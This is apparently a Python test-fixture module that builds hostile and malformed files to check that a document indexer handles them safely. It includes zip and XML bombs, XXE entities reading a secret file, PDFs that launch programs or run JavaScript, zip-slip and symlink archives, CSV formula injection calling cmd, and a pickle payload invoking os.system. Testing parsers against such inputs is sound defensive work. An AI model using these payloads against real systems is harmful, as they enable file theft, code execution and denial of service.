"""Files that mean harm, or that harm befell, all made here: their names, their bytes, and what is to become of them.

`files(server, secret)` refer to an address that counts who calls, and to a file whose words must never be read.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from email.message import EmailMessage

from tests.index.loaders.made import lines, locked_pdf, pdf, rezipped, word
from tests.index.loaders.ole import compound
from tests.index.loaders.samples import doc, epub, msg, opendocument, ppt, pptx, xlsx, zipped

READY, FAILED, EITHER = "ready", "failed", "either"
File = tuple[str, bytes, str]
WORDS = "The harbour was dredged in 1987. "
MB = 1_000_000


def files(server: str, secret: str) -> list[File]:
    """All of them."""
    broken = (_cut(), _locked(), _mislabelled(), _bombs(), _deep(), _bytes())
    groups = (*broken, _pdfs(server), _references(server, secret), _paths(), _programs(server), _mails(server))
    return [file for group in groups for file in group]


def _docx() -> bytes:
    return word(lambda document: document.add_paragraph(WORDS))


def _cut() -> Iterator[File]:
    """Files cut short, and files with bytes changed."""
    whole = {"pdf": pdf([lines(WORDS)]), "docx": _docx(), "pptx": pptx(), "xlsx": xlsx([["a", "b"], ["c", "d"]]),
             "odt": opendocument("text", f"<text:p>{WORDS}</text:p>"), "epub": epub(), "doc": doc([(WORDS, True)]),
             "ppt": ppt(), "msg": msg(), "zip": zipped({"a.txt": WORDS})}  # fmt: skip
    for suffix, data in whole.items():
        yield f"cut short.{suffix}", data[: len(data) * 6 // 10], FAILED if suffix != "pdf" else EITHER
    for suffix in ("pdf", "docx", "doc", "ppt", "msg"):
        data = bytearray(whole[suffix])
        data[len(data) // 3 : len(data) // 3 + 64] = b"\xff" * 64
        yield f"overwritten.{suffix}", bytes(data), EITHER


def _locked() -> Iterator[File]:
    yield "locked.pdf", locked_pdf(), FAILED
    yield "locked.docx", compound({"EncryptedPackage": b"x" * 5000, "EncryptionInfo": b"y" * 5000}), FAILED
    yield "locked.doc", doc([(WORDS, True)], flags=0x0300), FAILED
    data = bytearray(zipped({"a.txt": WORDS}))
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.index(mark) + (6 if mark == b"PK\x03\x04" else 8)
        data[at] |= 1
    yield "locked.zip", bytes(data), FAILED


def _mislabelled() -> Iterator[File]:
    picture = b"\x89PNG\r\n\x1a\n" + b"\0" * 200
    yield "a picture.pdf", picture, FAILED
    yield "a picture.docx", picture, FAILED
    yield "a pdf.docx", pdf([lines(WORDS)]), FAILED
    yield "a program.txt", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20, FAILED
    yield "text.xlsx", WORDS.encode(), FAILED
    yield "text.jsonl", WORDS.encode(), FAILED
    yield "text.msg", WORDS.encode(), FAILED
    yield "an archive.doc", zipped({"a.txt": WORDS}), FAILED
    yield "nothing known.xyz", WORDS.encode(), FAILED


def _bombs() -> Iterator[File]:
    zeros = b"0" * (20 * MB)
    yield "bomb.zip", zipped({"a.txt": zeros}), FAILED
    yield "bomb.gz", gzip.compress(zeros), FAILED
    yield "bomb.txt.bz2", bz2.compress(zeros), FAILED
    yield "bomb.txt.xz", lzma.compress(zeros), FAILED
    yield "bomb.docx", rezipped(_docx(), "word/document.xml", lambda data: data + b" " * (20 * MB)), FAILED
    yield "bomb.odt", zipped({"content.xml": zeros}), FAILED
    yield "many members.zip", zipped({f"{number}.txt": WORDS for number in range(1000)}), READY
    inner = zipped({"0.txt": b"0" * (11 * MB)})
    yield "bombs in a bomb.zip", zipped({f"{number}.zip": inner for number in range(10)}), FAILED
    stream = zlib.compress(b"(0) Tj " * (3 * MB))
    yield "bomb.pdf", _flate(stream), FAILED
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    yield "laughs.xml", f'<!DOCTYPE a [<!ENTITY e0 "ha">{entities}]><a>&e9;</a>'.encode(), FAILED
    yield "a long line.txt", b"word " * (MB // 5), READY
    yield "a wide table.csv", b",".join(b"x" for _ in range(200_000)) + b"\n", EITHER


def _flate(stream: bytes) -> bytes:
    """A PDF of one page whose content is packed."""
    head = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>"
    head += b"\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n"
    packed = b"4 0 obj\n<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (len(stream), stream)
    return head + packed + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def _deep() -> Iterator[File]:
    yield "deep.json", b"[" * 100_000 + b"]" * 100_000, FAILED
    yield "deep.xml", b"<a>" * 100_000 + b"words" + b"</a>" * 100_000, EITHER
    yield "deep.html", b"<div>" * 50_000 + WORDS.encode() + b"</div>" * 50_000, EITHER
    yield "deep.rtf", b"{\\rtf1 " + b"{" * 50_000 + b"words" + b"}" * 50_001, EITHER
    yield "deep.md", b"> " * 5_000 + b"words", EITHER
    data = zipped({"a.txt": WORDS})
    for number in range(8):
        data = zipped({f"{number}.zip": data})
    yield "deep.zip", data, FAILED
    body = "<text:section>" * 5000 + f"<text:p>{WORDS}</text:p>" + "</text:section>" * 5000
    yield "deep.odt", opendocument("text", body), EITHER
    yield "deep.pdf", pdf([lines(WORDS)], catalog="/Names " + "[" * 20_000 + "]" * 20_000), EITHER


def _bytes() -> Iterator[File]:
    """Encodings that are wrong, absent or mixed, and characters that steer."""
    yield "NUL bytes.txt", b"The\0harbour\0was\0dredged" + b"\0" * 5000, FAILED
    yield "one NUL.txt", WORDS.encode() * 20 + b"\0" + WORDS.encode(), EITHER
    yield "half of utf-16.txt", WORDS.encode("utf-16")[:-1], EITHER
    yield "broken utf-8.txt", b"caf\xc3 \xe9\xff na\xefve " * 20, EITHER
    yield "surrogates.json", b'{"text": "\\ud800 words \\udfff"}', EITHER
    yield "lies about its encoding.html", b'<meta charset="utf-16"><p>' + WORDS.encode() * 9, EITHER
    yield "an unknown encoding.xml", b'<?xml version="1.0" encoding="x-none"?><a>words</a>', FAILED
    yield "steers a terminal.txt", b"\x1b[2J\x1b]0;title\x07" + "\u202e".encode() + WORDS.encode(), EITHER
    yield "combining.txt", ("a" + "\u0301" * 100_000).encode(), EITHER
    yield "only a mark.txt", b"\xef\xbb\xbf", FAILED
    yield "only spaces.md", b" \n\t\n", FAILED


def _pdfs(server: str) -> Iterator[File]:
    yield "10,000 pages.pdf", pdf([lines(f"Page {number}.") for number in range(10_000)]), EITHER
    yield "no pages.pdf", pdf([]), FAILED
    yield "a huge page.pdf", pdf([lines(WORDS)]).replace(b"[0 0 400 400]", b"[0 0 9e9 9e9]"), EITHER
    yield "a page of itself.pdf", pdf([lines(WORDS)]).replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"), FAILED
    script = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{server}/js'\\)) >>"
    yield "a script.pdf", pdf([lines(WORDS)], catalog=script), READY
    yield "fetches.pdf", pdf([lines(WORDS)], catalog=f"/OpenAction << /S /URI /URI ({server}/pdf) >>"), READY
    launch = "/OpenAction << /S /Launch /F (/bin/touch) /P (launched) >>"
    yield "launches.pdf", pdf([lines(WORDS)], catalog=launch), READY


def _references(server: str, secret: str) -> Iterator[File]:
    """Documents that refer to what is not in them."""
    for name, address in (("file", f"file://{secret}"), ("web", f"{server}/xml")):
        entity = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{address}">]>'
        yield f"an entity of a {name}.xml", f"{entity}<a>&x; and words</a>".encode(), EITHER
        changed = rezipped(_docx(), "word/document.xml", lambda data, e=entity: _entered(data, e))
        yield f"an entity of a {name}.docx", changed, EITHER
        slides = rezipped(pptx(), "ppt/slides/slide2.xml", lambda d, e=entity: _entered(d, e, b"Shown first"))
        yield f"an entity of a {name}.pptx", slides, EITHER
        text = opendocument("text", f"<text:p>{WORDS}</text:p>")
        yield f"an entity of a {name}.odt", rezipped(text, "content.xml", lambda d, e=entity: _entered(d, e)), EITHER
        include = f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="{address}" parse="text"/>words</a>'
        yield f"includes a {name}.xml", include.encode(), EITHER
        page = f'<img src="{address}"><iframe src="{address}"></iframe><link href="{address}" rel="stylesheet">'
        yield f"shows a {name}.html", (page + f"<p>{WORDS}</p>" * 9).encode(), READY
    parameter = f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{server}/dtd"> %p;]><a>words</a>'
    yield "a dtd of the web.xml", parameter.encode(), EITHER
    yield "a template of the web.rtf", f"{{\\rtf1{{\\*\\template {server}/t.dotm}}{WORDS}}}".encode(), READY


def _entered(data: bytes, entity: str, before: bytes = b"The harbour") -> bytes:
    """XML that declares the entity `x`, and names it before some words."""
    head, end, rest = data.rpartition(b"?>")
    assert before in rest
    return head + end + entity.encode() + rest.replace(before, b"&x; " + before)


def _paths() -> Iterator[File]:
    """Archives whose members would be written elsewhere, were they written."""
    yield "climbs.zip", zipped({"../../climbed.txt": WORDS, "/etc/climbed.txt": WORDS, "..\\climbed.txt": WORDS}), READY
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield "a link.zip", out.getvalue(), EITHER
    yield "climbs.epub", rezipped(epub(), "META-INF/container.xml", lambda d: d.replace(b"b/c.opf", b"../../c")), EITHER
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        member = tarfile.TarInfo("../../climbed.txt")
        member.size = len(WORDS)
        tar.addfile(member, io.BytesIO(WORDS.encode()))
    yield "climbs.tar.gz", out.getvalue(), FAILED
    yield "a name of %2e%2e%2f.txt", WORDS.encode(), READY


def _programs(server: str) -> Iterator[File]:
    """Documents with programs in them."""
    macros = rezipped(
        _docx(), "[Content_Types].xml", lambda d: d.replace(b"document.main", b"document.macroEnabled.main")
    )
    yield "macros.docx", macros, EITHER
    yield (
        "macros.doc",
        compound({"WordDocument": b"\xec\xa5" + bytes(6000), "Macros": {"VBA": b"Shell" * 1000}}),
        FAILED,
    )
    script = f"<script>fetch('{server}/script')</script><p onclick=\"fetch('{server}/click')\">{WORDS}</p>"
    yield "scripts.html", (script * 9).encode(), READY
    yield "scripts.md", f"[x](javascript:alert(1)) <script src={server}/md></script> {WORDS}".encode(), READY
    yield "formulas.csv", f'name,value\n"=cmd|\' /C calc\'!A0","=WEBSERVICE(""{server}/csv"")"\n'.encode(), READY
    yield "formulas.xlsx", xlsx([["=1+1", f"=WEBSERVICE('{server}/x')"], ["a", "b"]]), READY
    yield "an object.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata " + b"d0cf11e0" * 500 + b"}}words}", EITHER
    yield (
        "a class.json",
        json.dumps({"__class__": "os.system", "py/object": "os.system", "text": WORDS}).encode(),
        READY,
    )
    yield "a pickle.json", b"cos\nsystem\n(S'touch pickled'\ntR.", FAILED


def _mails(server: str) -> Iterator[File]:
    mail = EmailMessage()
    mail["Subject"], mail["From"] = "A subject", "Ann <ann@example.org>"
    mail.set_content(f'<img src="{server}/pixel"><p>{WORDS}</p>', subtype="html")
    mail.add_attachment(WORDS.encode(), maintype="text", subtype="plain", filename="../../../climbed.txt")
    yield "climbs and calls.eml", mail.as_bytes(), READY
    nested = EmailMessage()
    nested.set_content(WORDS)
    for number in range(30):
        outer = EmailMessage()
        outer["Subject"] = str(number)
        outer.set_content(WORDS)
        outer.add_attachment(nested)
        nested = outer
    yield "mails in mails.eml", nested.as_bytes(), READY
    yield (
        "endless parts.eml",
        b'Subject: x\nContent-Type: multipart/mixed; boundary="b"\n\n' + b"--b\n" * 100_000,
        EITHER,
    )
    yield "a bad header.eml", b"Subject: =?utf-8?B?////?=\nDate: Yesterday\nFrom: <<>>@,\n\n" + WORDS.encode(), READY
    yield "a lying size.msg", msg().replace(struct.pack("<I", 512), struct.pack("<I", 0xFFFFFFF0)), EITHER
